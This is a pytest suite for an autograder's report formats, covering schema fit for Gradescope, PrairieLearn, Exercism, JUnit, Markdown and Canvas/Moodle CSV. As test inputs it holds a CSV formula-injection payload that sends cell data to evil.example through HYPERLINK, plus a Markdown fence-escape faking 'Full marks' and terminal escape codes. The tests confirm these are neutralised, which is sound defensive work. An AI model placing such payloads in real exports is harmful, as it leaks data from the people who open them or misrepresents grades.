"""Every format of a record fits the schema or the parser of the programs that read it."""

import csv
import io
import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import junitparser
import pytest
from lxml import etree
from markdown_it import MarkdownIt

from grader.__main__ import main
from grader.base.paths import ROOT
from grader.contract.enums import Status
from grader.contract.record import Record
from grader.contract.results import Result
from grader.reports import (
    FORMATS,
    exercism,
    feedback,
    gradescope,
    junit,
    markdown,
    marks,
    prairielearn,
    table,
)
from grader.reports.labels import NOT_JUDGED
from tests.classes import (
    EVIL,
    HOSTILE,
    NAMES,
    WRITE_AGAIN,
    changed,
    comparable,
    grade_again,
    graded,
)

SCHEMAS = ROOT / "tests" / "schemas"
JUNIT = etree.XMLSchema(etree.parse(SCHEMAS / "junit.xsd"))
SCHEMA = json.loads(
    (ROOT / "grader" / "contract" / "record.schema.json").read_text(encoding="utf-8")
)
FAULT = "The grader itself failed: ValueError('secret') (test_dataset.py, line 20)."


def fits(data: Any, schema: str) -> None:
    jsonschema.validate(data, json.loads((SCHEMAS / schema).read_text(encoding="utf-8")))


def faulty() -> Record:
    """A record with a check that the grader could not judge."""
    return changed(
        graded()["right"], "dataset.texts", status=Status.ERROR, score=0.0, message=FAULT
    )


# --- the golden records ----------------------------------------------------------------------


@pytest.mark.full
@pytest.mark.parametrize("name", NAMES)
def test_the_golden_records_are_what_grading_gives(name: str) -> None:
    again = grade_again(name)
    assert comparable(again) == comparable(graded()[name]), f"{WRITE_AGAIN} {name}"


@pytest.mark.parametrize("name", NAMES)
def test_the_golden_records_fit_the_schema(name: str) -> None:
    jsonschema.validate(graded()[name].as_dict(), SCHEMA)


# --- Gradescope ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_gradescopes_results_fit_what_it_documents(name: str) -> None:
    record = graded()[name]
    data = json.loads(gradescope.text(record))
    fits(data, "gradescope.json")
    assert data["score"] == record.score == sum(test.get("score", 0) for test in data["tests"])
    assert record.max_score == sum(test.get("max_score", 0) for test in data["tests"])
    assert len(data["tests"]) == len(record.checks)


def test_gradescope_shows_messages_as_text_and_hides_nothing() -> None:
    data = json.loads(gradescope.text(graded()["hostile"]))
    failed = next(test for test in data["tests"] if EVIL in test["output"])
    assert failed["tags"] == ["dataset", "failed"]
    assert "Hint: python -m grader hint dataset" in failed["output"]
    assert {data["test_output_format"], data["test_name_format"], data["output_format"]} == {"text"}
    assert data["visibility"] == "visible"
    assert not any("visibility" in test for test in data["tests"])


@pytest.mark.kit
def test_a_check_without_points_is_informational_at_gradescope() -> None:
    tests = json.loads(gradescope.text(graded()["right"]))["tests"]
    [free] = [test for test in tests if "max_score" not in test]
    assert free["name"] == "Accuracy on a held-out test set: end to end"
    assert free["status"] == "passed"


# --- PrairieLearn ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_prairielearns_results_fit_what_it_documents(name: str) -> None:
    record = graded()[name]
    written = prairielearn.text(record)
    data = json.loads(written)
    fits(data, "prairielearn.json")
    assert (
        data["score"] == record.score / 100 == sum(test["points"] for test in data["tests"]) / 100
    )
    assert [test["max_points"] for test in data["tests"]] == [c.max_score for c in record.checks]
    assert [not test["message"] for test in data["tests"]] == [
        check.status is Status.PASSED for check in record.checks
    ]
    assert len(written.encode()) < 1_000_000  # its limit


@pytest.mark.parametrize("status", [Status.ERROR, Status.NOT_RUN])
def test_without_a_final_mark_no_attempt_is_lost_at_prairielearn(status: Status) -> None:
    record = changed(graded()["right"], "dataset.texts", status=status, score=0.0)
    data = json.loads(prairielearn.text(record))
    fits(data, "prairielearn.json")
    assert data["gradable"] is False
    assert data["format_errors"] == [NOT_JUDGED]


# --- exercism --------------------------------------------------------------------------------


@pytest.mark.kit
@pytest.mark.parametrize("name", NAMES)
def test_exercisms_results_fit_its_version_3(name: str) -> None:
    record = graded()[name]
    data = json.loads(exercism.text(record))
    fits(data, "exercism.json")
    assert data["status"] == ("pass" if name == "right" else "fail")
    assert [test["status"] == "pass" for test in data["tests"]] == [
        check.status == "passed" for check in record.checks
    ]
    assert [test["task_id"] for test in data["tests"]] == [
        [task.id for task in record.tasks].index(check.task) + 1 for check in record.checks
    ]
    assert all(test["test_code"] for test in data["tests"])


def test_an_exercism_run_in_which_nothing_ran_is_an_error_with_a_message() -> None:
    record = graded()["right"]
    for check in record.checks:
        record = changed(record, check.id, status=Status.NOT_RUN, score=0.0)
    data = json.loads(exercism.text(record))
    fits(data, "exercism.json")
    assert (data["status"], data["message"]) == ("error", "No check ran. Grade it again.")


# --- JUnit -----------------------------------------------------------------------------------


def suites(results: list[Result]) -> junitparser.JUnitXml:
    """Parse a report by the schema, and by the parser that others use."""
    text = junit.text(results)
    JUNIT.assertValid(etree.fromstring(text.encode()))
    return junitparser.JUnitXml.fromstring(text.encode())


def test_junit_has_a_suite_a_submission_and_a_case_a_check() -> None:
    parsed = suites([Result(name, record=record) for name, record in graded().items()])
    assert [suite.name for suite in parsed] == [*NAMES]
    for suite, record in zip(parsed, graded().values(), strict=True):
        assert [(case.classname, case.name) for case in suite] == [
            tuple(check.id.split(".")) for check in record.checks
        ]
        passed = [case.name for case in suite if case.is_passed]
        assert passed == [c.id.split(".")[1] for c in record.checks if c.status == "passed"]
        assert suite.tests == len(record.checks)
        assert suite.failures + suite.errors + suite.skipped == suite.tests - len(passed)
    assert parsed.tests == sum(suite.tests for suite in parsed)


def test_no_stub_is_green_in_junit() -> None:
    [suite] = suites([Result("stubs", record=graded()["stubs"])])
    assert suite.failures == suite.tests == 31


def test_what_the_grader_could_not_do_is_an_error_in_junit_and_no_failure() -> None:
    judged, lost = suites([Result("a", record=faulty()), Result("b", fault="a\x00.zip: no zip.")])
    assert (judged.errors, judged.failures) == (1, 0)
    assert (lost.errors, lost.failures, lost.tests) == (1, 0, 1)
    [case] = lost
    assert case.result[0].message == "a?.zip: no zip."


def test_text_that_is_no_xml_is_replaced_in_junit() -> None:
    record = changed(graded()["hostile"], "dataset.texts", message=HOSTILE, mistake="\x00")
    [suite] = suites([Result(HOSTILE, record=record)])
    told = [case.result[0].text for case in suite if not case.is_passed]
    assert suite.name.startswith(EVIL)
    assert any(EVIL in text and "]]>" in text for text in told)


# --- Markdown --------------------------------------------------------------------------------


def rendered(record: Record, student: str = "") -> Any:
    """The elements of the page that GitHub's dialect makes of a record's Markdown."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    html = renderer.render(markdown.text(record, student))
    return etree.HTML(html.encode(), etree.HTMLParser(encoding="utf-8"))


@pytest.mark.parametrize("name", NAMES)
def test_markdown_has_the_board_and_every_message(name: str) -> None:
    record = graded()[name]
    page = rendered(record)
    states = [row[2].text for row in page.iter("tr")][1:]
    assert states == [task.state.replace("_", " ") for task in record.tasks]
    blocks = ["".join(block.itertext()) for block in page.iter("code")]
    for check in record.checks:
        if check.status == "failed":
            assert any(block.startswith(check.message) for block in blocks)


def test_student_text_is_no_markup_in_markdown() -> None:
    page = rendered(graded()["hostile"], HOSTILE + "\n# heading\n| a | b |")
    assert {each.tag for each in page.iter()} <= {
        *("html", "body", "h1", "h2", "h3", "p", "strong", "table", "thead", "tbody", "tr", "th"),
        *("td", "pre", "code", "details", "summary"),
    }
    assert EVIL in "".join(page.find(".//h1").itertext())
    source = markdown.text(graded()["hostile"], "www.evil.example https://evil.example a@b.example")
    assert not any(link in source for link in ("www.evil", "https://evil", "a@b"))


@pytest.mark.parametrize("fence", ["```", "`````", "~~~"])
def test_a_message_cannot_end_the_block_that_it_stands_in(fence: str) -> None:
    record = changed(graded()["hostile"], "dataset.texts", message=f"a\n{fence}\n# Full marks")
    page = rendered(record)
    assert len(page.findall(".//h1")) == 1
    assert any("# Full marks" in "".join(code.itertext()) for code in page.iter("code"))


# --- CSV -------------------------------------------------------------------------------------


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_marks_have_a_row_a_student_and_a_column_a_check() -> None:
    record = graded()["wrong"]
    results = [Result("ann", "Ann", "ann.zip", record), Result("bob", fault="bob.zip: no zip.")]
    ann, bob = rows(marks.every_check(results))
    assert (float(ann["score"]), float(ann["max_score"])) == (record.score, 100)
    assert {task.id: float(ann[task.id]) for task in record.tasks} == {
        t.id: t.score for t in record.tasks
    }
    assert all(float(ann[check.id]) == check.score for check in record.checks)
    assert (bob["score"], bob["dataset.texts"], bob["fault"]) == ("", "", "bob.zip: no zip.")
    assert (ann["final"], bob["final"]) == ("yes", "")


def test_marks_say_what_was_read_in_another_way_and_what_was_not_read() -> None:
    read_as, skipped = "x (1).py was read as x.py.", "random.py was skipped: Rename it."
    told = {"left_out": [skipped], "notes": ["=1+1", *[read_as] * 200]}
    record = graded()["wrong"]
    record = replace(record, submission=record.submission | told)
    late = "Late by timestamp.txt."
    ann, bob, cat, zoe = rows(
        marks.every_check(
            [
                Result("ann", record=record, notes=[late]),
                Result("bob", fault="no zip", notes=["=1+1"]),
                Result("cat", record=graded()["wrong"]),
                Result("zoe"),
            ]
        )
    )
    assert ann["notes"].startswith(f"{late} {skipped} =1+1 {read_as} {read_as}")
    assert len(ann["notes"]) == marks.MAX_NOTES
    assert (bob["notes"], cat["notes"], zoe["notes"]) == ("'=1+1", "", "")


@pytest.mark.parametrize(
    ("layout", "columns"),
    [
        ("", ["ID number", "Full name", "News", "News (feedback)"]),
        (
            "moodle",
            ["Identifier", "Full name", "Grade", "Maximum Grade", "Last modified (grade)",
             "Feedback comments"],
        ),
    ],
)  # fmt: skip
def test_moodle_gets_the_columns_of_its_imports(layout: str, columns: list[str]) -> None:
    right = graded()["right"]
    results = [Result("123", "Ann", record=right), Result("124", record=faulty()), Result("125")]
    found = rows(marks.moodle(results, "News", layout))
    assert list(found[0]) == columns
    assert [row[columns[0]] for row in found] == [
        f"{'Participant ' if layout else ''}{number}" for number in (123, 124, 125)
    ]
    none = "" if layout else "-"
    assert [row["Grade" if layout else "News"] for row in found] == ["100.0", none, none]


@pytest.mark.parametrize(
    ("layout", "column"), [("", "SIS User ID"), ("moodle", "SIS User ID"), ("canvas", "ID")]
)
def test_canvas_gets_its_columns_and_the_points_possible(layout: str, column: str) -> None:
    results = [Result("7", "Ann", record=graded()["right"]), Result("8", record=faulty())]
    possible, ann, other = rows(marks.canvas(results, "News", layout))
    assert list(possible) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "News"]
    assert (possible["Student"], possible["News"]) == ("Points Possible", "100")
    assert (ann["Student"], ann[column], ann["News"]) == ("Ann", "7", "100.0")
    assert (other["Student"], other[column], other["News"]) == ("8", "8", "")
    assert {ann["ID"], ann["SIS User ID"]} == {"7", ""}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝"])  # noqa: RUF001
def test_no_cell_of_any_csv_starts_a_formula(start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example?x="&A1)'
    results = [Result(evil, evil, evil, None, evil), Result("b", evil, evil, graded()["right"])]
    for text in (
        marks.every_check(results),
        marks.canvas(results, evil),
        marks.moodle(results, evil),
        marks.moodle(results, evil, "moodle"),
    ):
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(cell.startswith(table.FORMULA) for cell in row if cell != "-")
        assert "HYPERLINK" in text


def test_control_characters_and_surrogates_reach_no_csv() -> None:
    text = marks.every_check([Result(HOSTILE, HOSTILE, HOSTILE, None, HOSTILE)])
    assert text.encode()
    assert not any(char in text for char in "\x00\x1b\u202e\ud800")
    assert rows(text)[0]["name"].startswith(EVIL)


# --- what students get -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "face", [gradescope.text, prairielearn.text, exercism.text, markdown.text, feedback.text]
)
def test_students_read_nothing_of_the_graders_own_faults(face: Any) -> None:
    text = face(faulty())
    assert "secret" not in text
    assert "test_dataset.py" not in text
    assert NOT_JUDGED[:34] in text


# --- the command -----------------------------------------------------------------------------


@pytest.fixture
def record(tmp_path: Path) -> Path:
    path = tmp_path / "ann.json"
    path.write_text(graded()["wrong"].to_json(), encoding="utf-8")
    return path


@pytest.mark.parametrize("face", FORMATS)
def test_a_record_on_disk_is_shown_in_every_form(
    face: str, record: Path, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["report", str(record), "--as", face]) == 0
    shown = capfdbinary.readouterr().out
    assert main(["report", str(record), "--as", face, "--out", str(tmp_path / "out")]) == 0
    assert (tmp_path / "out").read_bytes() == shown
    assert len(shown) > 100


def test_marks_of_several_records_make_one_table(record: Path, capfd: Any) -> None:
    other = record.with_name("bob.json")
    other.write_text(graded()["right"].to_json(), encoding="utf-8")
    options = ["--as", "csv", "--decimal", "point"]
    assert main(["report", str(record), str(other), *options]) == 0
    assert [row["student"] for row in rows(capfd.readouterr().out)] == ["ann", "bob"]


def test_csv_of_records_has_the_column_and_the_decimal_sign_that_are_asked_for(
    record: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    options = ["--column", "News (7)", "--decimal", "comma"]
    score = f"{graded()['wrong'].score}".replace(".", ",")
    for format_ in ("canvas", "moodle"):
        assert main(["report", str(record), "--as", format_, *options]) == 0
        found = list(csv.DictReader(io.StringIO(capfd.readouterr().out), delimiter=";"))
        assert found[-1]["News (7)"] == score
    assert main(["report", str(record), "--as", "csv", "--decimal", "comma"]) == 0
    [row] = csv.DictReader(io.StringIO(capfd.readouterr().out), delimiter=";")
    assert row["score"] == score


@pytest.mark.parametrize(
    ("content", "arguments", "says"),
    [
        ("{", [], "not a record of this grader. Give a file that grade --json wrote."),
        ("[]", [], "not a record"),
        ('{"schema_version": 2}', [], "not a record"),
        ('{"schema_version": 1, "checks": [{"id": 1}]}', [], "not a record"),
        (
            None,
            ["nowhere.json", "--as", "csv"],
            "nowhere.json: cannot be read (No such",
        ),
        (None, ["--as", "pdf"], "--as pdf: no such format. Choose from board, markdown,"),
        (None, [".", "--as", "html"], "--as html: takes a single record."),
        (None, ["--out", "nowhere/x"], "--out nowhere/x: cannot be written"),
    ],
)
def test_what_cannot_be_shown_is_told_in_one_line(
    content: str | None, arguments: list[str], says: str, record: Path, capfd: Any
) -> None:
    if content is not None:
        record.write_text(content, encoding="utf-8")
    assert main(["report", str(record), *arguments]) == 2
    told = capfd.readouterr().err
    assert says in told
    assert told.count("\n") == 1


@pytest.mark.parametrize("status", ["failed", "not_started", "blocked", "passed"])
def test_a_record_of_another_version_of_the_checks_is_shown_in_every_form(
    record: Path, status: str
) -> None:
    data = json.loads(record.read_text(encoding="utf-8"))
    older = next(check for check in data["checks"] if check["status"] == "failed")
    older |= {"id": "older.check", "task": "older", "mistake": "no-longer-known", "status": status}
    data["checks"] = [older]
    record.write_text(json.dumps(data), encoding="utf-8")
    for face in FORMATS:
        assert main(["report", str(record), "--as", face]) == 0, face


def test_escape_codes_in_a_record_do_not_reach_the_terminal(record: Path, capfd: Any) -> None:
    changed_ = changed(graded()["wrong"], "collate.shape", message="a\x1b[31mb\nc")
    record.write_text(changed_.to_json(), encoding="utf-8")
    assert main(["report", str(record)]) == 0
    assert "a?[31mb" in capfd.readouterr().out


def test_showing_a_record_needs_neither_torch_nor_a_browser_engine(record: Path) -> None:
    code = (
        "import sys; from grader.__main__ import main;"
        f"[main(['report', {str(record)!r}, '--as', face]) for face in {list(FORMATS)!r}];"
        "print(sorted({'torch', 'spacy', 'copydetect'} & set(sys.modules)))"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout.splitlines()[-1] == "[]"
